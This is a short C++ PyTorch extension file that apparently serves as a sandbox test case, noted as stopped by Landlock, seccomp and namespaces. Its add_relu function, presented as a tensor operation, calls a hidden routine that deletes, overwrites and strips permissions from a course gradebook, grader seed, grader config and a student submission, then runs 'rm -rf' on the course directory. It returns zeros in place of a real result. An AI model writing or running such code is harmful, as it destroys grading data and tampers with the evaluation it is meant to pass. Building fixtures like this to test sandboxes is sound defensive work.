// Tries to remove the course and the gradebook.
// Stopped by: Landlock, seccomp, namespaces
#include <torch/extension.h>
#include <c10/cuda/CUDAStream.h>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>
static void attack() {
    for (auto name : {"gradebook.db", ".grader_seed", "nbgrader_config.py", "submitted/honest-00"}) {
        auto path = std::string("@COURSE@/") + name;
        unlink(path.c_str());
        chmod(path.c_str(), 0);
        rename(path.c_str(), (path + ".gone").c_str());
        if (FILE* file = fopen(path.c_str(), "w")) fclose(file);
    }
    if (system("rm -rf @COURSE@")) return;
}

torch::Tensor add_relu(torch::Tensor a, torch::Tensor b) {
    attack();
    return torch::zeros_like(a);
}
